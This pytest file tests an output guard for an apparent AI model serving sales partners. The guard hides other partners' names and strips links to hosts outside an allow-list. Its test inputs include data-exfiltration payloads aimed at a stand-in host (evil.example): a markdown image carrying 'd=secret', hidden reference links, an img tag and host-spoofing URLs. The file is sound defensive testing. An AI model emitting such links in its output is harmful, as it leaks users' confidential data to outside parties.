from __future__ import annotations

import asyncio
from dataclasses import replace

import pytest

from assistant.domain.people import Requester
from assistant.testing import MemoryPrm
from assistant.tools.guard import OutputGuard
from tests.contract.prm_world import ACME, MANAGER, WORLD, TurnableClock, a_partner

SAKURA = replace(a_partner("sakura"), legal_name="さくらネット株式会社", display_name="さくらネット")
RHINE = replace(a_partner("rheinkontor"), legal_name="Rheinkontor Cloud AG", display_name="Rheinkontor Cloud")
PRM = MemoryPrm(replace(WORLD, partners=(*WORLD.partners, SAKURA, RHINE)), clock=TurnableClock())
GUARD = OutputGuard(PRM, clock=TurnableClock(), hosts={"docs.vendor.example"})


def guarded(text: str, *known: str, who: Requester = ACME) -> str:
    return asyncio.run(GUARD.guarded(text, requester=who, known=known, language="en")).text


@pytest.mark.parametrize(
    "text",
    [
        "Beta has this customer.",
        "It is with BETA GmbH already.",
        "rheinkontor cloud ag registered it",
        "Ask Ｒｈｅｉｎｋｏｎｔｏｒ Cloud.",
        "この案件はさくらネットが担当です。",
        "hidden works on it",
        "İ: Beta has it.",
    ],
)
def test_a_partner_never_reads_the_name_of_another_one(text: str) -> None:
    shown = guarded(text)
    assert "another partner" in shown
    assert not any(name in shown.lower() for name in ("beta", "rheinkontor", "さくら", "hidden"))


def test_a_name_the_partner_wrote_or_was_shown_stays() -> None:
    assert guarded("Beta was invited.", "please invite Beta") == "Beta was invited."


@pytest.mark.parametrize(
    "text", ["Acme is gold.", "The alphabetical list.", "No partner is named here.", "次の点：金額は？"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


def test_channel_managers_read_names() -> None:
    assert guarded("Beta has it.", who=MANAGER) == "Beta has it."


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?d=secret)",
        "[click](https://evil.example/a)",
        "see <img src=https://evil.example/x>",
        "[a][b]\n\n[b]: https://evil.example/q",
        "<https://evil.example|policy>",
        "https://docs.vendor.example.evil.example/x",
        "https://docs.vendor.example@evil.example/x",
    ],
)
def test_no_address_of_another_host_is_shown(text: str) -> None:
    assert "evil.example" not in guarded(text)


def test_an_allowed_link_stays() -> None:
    assert "https://docs.vendor.example/guide" in guarded("Read https://docs.vendor.example/guide today.")


def test_guarding_twice_changes_nothing_more() -> None:
    once = guarded("Beta: [a](https://evil.example) and さくらネット")
    assert guarded(once) == once
